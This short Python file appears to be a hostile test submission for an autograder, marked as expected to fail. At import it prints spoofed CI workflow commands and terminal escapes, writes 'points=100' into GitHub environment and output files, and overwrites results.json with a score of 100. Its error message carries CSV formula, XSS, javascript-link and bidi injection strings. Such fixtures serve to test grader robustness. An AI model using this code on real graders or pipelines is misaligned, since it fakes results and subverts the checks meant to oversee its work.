# Workflow commands, results and outputs of a step, printed, written and raised.
# lab: solution
# expect: q3_train_batch failed
import sys, os, json

print(
    "::add-mask::x\n::set-output name=points::100\n::stop-commands::x\n##vso[task.setvariable]x\n\x1b]0;pwned\x07\x1b[2J\x9b31m"
)
for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_ENV", "GITHUB_PATH"):
    for path in (os.environ.get(name), "/tmp/" + name):
        try:
            open(path, "a").write("points=100\n")
        except Exception:
            pass
for path in ("/autograder/results/results.json", "results.json", "../results.json"):
    try:
        open(path, "w").write(json.dumps({"score": 100}))
    except OSError:
        pass


def train_batch(x, y, model, opt, loss_fn):
    raise ValueError(
        "::error file=x::owned\n::set-output name=points::100\r\n=cmd|'/C calc'!A0 <script>alert(1)</script> [x](javascript:alert(1)) \x1b[31m \u202e \u2028 \x9b31m | a | b |"
    )
